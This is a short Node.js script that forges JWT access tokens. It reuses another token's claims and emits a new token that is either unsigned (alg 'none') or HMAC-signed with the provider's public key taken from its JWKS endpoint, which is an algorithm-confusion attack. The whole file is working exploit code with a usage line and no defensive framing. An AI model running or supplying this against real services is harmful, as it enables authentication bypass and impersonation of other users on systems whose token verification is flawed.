// Forges a token with the claims of another: without a signature, or signed with the provider's public key as a secret.
// usage: node forge.mjs none|HS256 TOKEN JWKS_URL      prints the token
import { createHmac, createPublicKey } from 'node:crypto';

const [alg, token, url] = process.argv.slice(2);
const [header, claims] = token.split('.');
const { kid } = JSON.parse(Buffer.from(header, 'base64url'));
const { keys } = await (await fetch(url)).json();
const jwk = keys.find((key) => key.kid === kid);
if (!jwk) throw new Error(`the provider has no key ${kid}`);

const secret = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
const text = `${Buffer.from(JSON.stringify({ alg, typ: 'at+jwt', kid })).toString('base64url')}.${claims}`;
const signature = alg === 'none' ? '' : createHmac('sha256', secret).update(text).digest('base64url');
console.log(`${text}.${signature}`);
